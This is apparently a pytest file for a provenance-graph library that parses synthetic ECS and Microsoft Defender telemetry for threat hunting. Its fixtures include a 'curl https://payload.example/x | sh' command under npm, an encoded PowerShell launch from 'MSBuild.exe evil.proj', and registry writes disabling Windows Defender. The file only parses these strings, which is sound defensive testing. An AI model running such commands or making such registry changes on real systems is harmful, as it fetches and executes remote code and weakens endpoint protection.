"""Synthetic ECS and MDE Advanced Hunting records."""

from __future__ import annotations

import io

import pytest
from provgraph.ingest.deadletter import Summary
from provgraph.ingest.ecs import parse_ecs
from provgraph.ingest.errors import ParseError, Skipped
from provgraph.ingest.mde import parse_mde
from provgraph.ingest.model import FileOp, Kind, Origin
from provgraph.ingest.reader import iter_events

ORIGIN = Origin("test", "<test>", 1)

ECS_START = {
    "@timestamp": "2024-05-01T08:00:00.000Z",
    "event": {"category": ["process"], "type": ["start"], "action": "exec"},
    "host": {"name": "ci-runner-3.build.example"},
    "user": {"name": "runner", "domain": "BUILD"},
    "process": {
        "entity_id": "ZW50aXR5LWNoaWxk",
        "pid": 3100,
        "executable": "/bin/sh",
        "command_line": "sh -c curl https://payload.example/x | sh",
        "parent": {"entity_id": "ZW50aXR5LXBhcmVudA==", "pid": 3000, "executable": "/usr/bin/npm"},
    },
}


def test_ecs_process_start_with_parent() -> None:
    [event] = parse_ecs(ECS_START, ORIGIN)
    assert event.kind is Kind.PROCESS_START and event.host == "ci-runner-3"
    assert event.process.uid == "e:ZW50aXR5LWNoaWxk" and event.process.user == "BUILD\\runner"
    assert event.process.start_time == event.ts
    assert event.parent is not None and event.parent.uid == "e:ZW50aXR5LXBhcmVudA=="
    assert event.parent.image == "/usr/bin/npm"


def test_ecs_dotted_flat_fields_and_pid_identity() -> None:
    flat = {
        "@timestamp": 1714550400000,  # epoch milliseconds
        "event.category": "process",
        "event.type": "start",
        "host.name": "ws9",
        "process.pid": "77",
        "process.executable": "C:\\Windows\\System32\\cmd.exe",
    }
    [event] = parse_ecs(flat, ORIGIN)
    assert event.process.uid == "p:ws9:77:20240501T080000.000000"


def test_ecs_file_and_network() -> None:
    file_event = {
        **ECS_START,
        "event": {"category": "file", "type": ["creation"]},
        "file": {"path": "/tmp/build/Dockerfile"},
    }
    [write] = parse_ecs(file_event, ORIGIN)
    assert write.kind is Kind.FILE_WRITE and write.file_op is FileOp.CREATE
    rename = {
        **file_event,
        "event": {"category": "file", "type": ["change"], "action": "rename"},
        "file": {"path": "/tmp/b", "Ext": {"original": {"path": "/tmp/a"}}},
    }
    [moved] = parse_ecs(rename, ORIGIN)
    assert moved.file_op is FileOp.RENAME and moved.previous_path == "/tmp/a"
    assert isinstance(
        parse_ecs({**file_event, "event": {"category": "file", "type": "access"}}, ORIGIN), Skipped
    )
    net = {
        **ECS_START,
        "event": {"category": ["network"], "type": ["start", "connection"]},
        "destination": {"ip": "203.0.113.50", "port": 8443},
        "source": {"ip": "192.0.2.4", "port": 40000},
        "network": {"transport": "TCP", "direction": "egress"},
    }
    [conn] = parse_ecs(net, ORIGIN)
    assert (conn.remote_ip, conn.remote_port, conn.protocol, conn.direction) == (
        "203.0.113.50",
        8443,
        "tcp",
        "outbound",
    )
    with pytest.raises(ParseError, match="destination.port"):
        parse_ecs({**net, "destination": {"ip": "203.0.113.50", "port": 70000}}, ORIGIN)


def test_ecs_needs_a_category() -> None:
    with pytest.raises(ParseError, match="event.category"):
        parse_ecs({"@timestamp": "2024-05-01T08:00:00Z", "host": {"name": "h"}}, ORIGIN)


MDE_PROCESS = {
    "Timestamp": "2024-06-01T12:00:01.1234567Z",
    "DeviceId": "0f0f",
    "DeviceName": "dev-ws4.contoso.example",
    "ActionType": "ProcessCreated",
    "FileName": "powershell.exe",
    "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "ProcessId": 5120,
    "ProcessCommandLine": "powershell -enc AAAA",
    "ProcessCreationTime": "2024-06-01T12:00:01.1000000Z",
    "AccountDomain": "contoso",
    "AccountName": "dev",
    "InitiatingProcessFileName": "MSBuild.exe",
    "InitiatingProcessFolderPath": "c:\\windows\\microsoft.net\\framework64\\v4.0.30319",
    "InitiatingProcessId": 4000,
    "InitiatingProcessCommandLine": "MSBuild.exe evil.proj",
    "InitiatingProcessCreationTime": "2024-06-01T11:59:58Z",
    "InitiatingProcessAccountName": "dev",
}


def test_mde_process_created() -> None:
    [event] = parse_mde(MDE_PROCESS, ORIGIN)
    assert event.kind is Kind.PROCESS_START and event.host == "dev-ws4"
    assert event.process.uid == "p:dev-ws4:5120:20240601T120001.100000"
    assert event.process.user == "contoso\\dev"
    assert event.parent is not None
    assert event.parent.uid == "p:dev-ws4:4000:20240601T115958.000000"
    # a folder without the file name is completed with it
    assert event.parent.image == "c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\MSBuild.exe"


def test_mde_file_and_network_rows() -> None:
    acting = {
        k: v for k, v in MDE_PROCESS.items() if k.startswith(("Initiating", "Device", "Timestamp"))
    }
    [renamed] = parse_mde(
        {
            **acting,
            "ActionType": "FileRenamed",
            "FileName": "b.cs",
            "FolderPath": "C:\\src\\b.cs",
            "PreviousFileName": "a.cs",
            "PreviousFolderPath": "C:\\src",
        },
        ORIGIN,
    )
    assert renamed.file_op is FileOp.RENAME and renamed.previous_path == "C:\\src\\a.cs"
    assert renamed.process.pid == 4000
    [conn] = parse_mde(
        {
            **acting,
            "ActionType": "ConnectionSuccess",
            "RemoteIP": "::ffff:203.0.113.9",
            "RemotePort": "443",
            "Protocol": "TcpV4",
            "RemoteUrl": "cdn.example",
        },
        ORIGIN,
    )
    assert (conn.remote_ip, conn.remote_port, conn.protocol) == ("203.0.113.9", 443, "tcp")
    assert isinstance(
        parse_mde({**acting, "ActionType": "ListeningConnectionCreated"}, ORIGIN), Skipped
    )
    with pytest.raises(ParseError, match="RemoteIP"):
        parse_mde({**acting, "ActionType": "ConnectionSuccess", "RemoteIP": "not-an-ip"}, ORIGIN)


def test_mde_csv_export_through_the_reader() -> None:
    columns = list(MDE_PROCESS)
    row = ",".join('"' + str(MDE_PROCESS[c]).replace('"', '""') + '"' for c in columns)
    broken = ",".join(["x"] * 3)
    text = ",".join(columns) + "\n" + row + "\n" + broken + "\n"
    summary = Summary()
    events = list(iter_events(io.BytesIO(text.encode()), summary=summary))
    assert [e.process.image for e in events] == [MDE_PROCESS["FolderPath"]]
    [stats] = summary.files.values()
    assert stats.format == "mde" and stats.accepted == 1
    assert stats.skipped == {"CSV header": 1}
    assert sum(stats.rejected.values()) == 1


def test_mde_json_array_through_the_reader() -> None:
    import json

    data = json.dumps([MDE_PROCESS, {**MDE_PROCESS, "ProcessId": "zzz"}]).encode()
    summary = Summary()
    events = list(iter_events(io.BytesIO(data), summary=summary))
    assert len(events) == 1
    [stats] = summary.files.values()
    assert stats.rejected == {"ProcessId: not an integer": 1}


@pytest.mark.parametrize(
    ("value_type", "data", "details"),
    [
        ("%%1876", "1089", "DWORD (0x00000441)"),  # Security 4657: decimal, message id
        ("Dword", "0", "DWORD (0x00000000)"),  # Defender
        ("REG_DWORD", "0x10", "DWORD (0x00000010)"),  # Elastic
        ("Qword", "0x01d68f9673873e84", "QWORD (0x01d68f96-0x73873e84)"),
        ("%%1875", "4d 5a 90 00", "Binary Data"),
        ("String", "", "(Empty)"),
        ("%%1873", "C:\\x.exe", "C:\\x.exe"),
        ("%%1876", "DWORD (0x00000001)", "DWORD (0x00000001)"),  # already Sysmon's form
        ("Dword", "not a number", "not a number"),  # kept as logged
        (None, "-", None),
    ],
)
def test_registry_data_in_sysmon_words(value_type: str, data: str, details: str) -> None:
    from provgraph.ingest.fields import registry_details

    assert registry_details(value_type, data) == details


def test_registry_values_of_defender_elastic_and_4657_read_as_sysmon_writes_them() -> None:
    from provgraph.ingest.security import parse_security

    mde = {
        **{k: v for k, v in MDE_PROCESS.items() if k.startswith(("Timestamp", "Device"))},
        "ActionType": "RegistryValueSet",
        "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
        "RegistryValueName": "DisableAntiSpyware",
        "RegistryValueType": "Dword",
        "RegistryValueData": "1",
        **{k: v for k, v in MDE_PROCESS.items() if k.startswith("InitiatingProcess")},
    }
    [event] = parse_mde(mde, ORIGIN)
    assert event.registry is not None and event.registry.details == "DWORD (0x00000001)"
    ecs = {
        "@timestamp": "2024-05-01T08:00:00.000Z",
        "event": {"category": ["registry"], "type": ["change"], "action": "modification"},
        "host": {"name": "ws1"},
        "process": {"entity_id": "ZW50aXR5", "pid": 42, "executable": "C:\\Windows\\reg.exe"},
        "registry": {
            "path": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
            "data": {"type": "REG_DWORD", "strings": ["1"]},
        },
    }
    [event] = parse_ecs(ecs, ORIGIN)
    assert event.registry is not None and event.registry.details == "DWORD (0x00000001)"
    security = {
        "TimeGenerated": "2024-03-01T10:00:03Z",
        "Computer": "build01",
        "EventID": 4657,
        "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
        "ObjectValueName": "DisableAntiSpyware",
        "OperationType": "%%1905",
        "NewValueType": "%%1876",
        "NewValue": "1",
        "ProcessId": "0xF00",
        "ProcessName": "C:\\Windows\\System32\\reg.exe",
    }
    [event] = parse_security(security, ORIGIN)
    assert event.registry is not None and event.registry.details == "DWORD (0x00000001)"
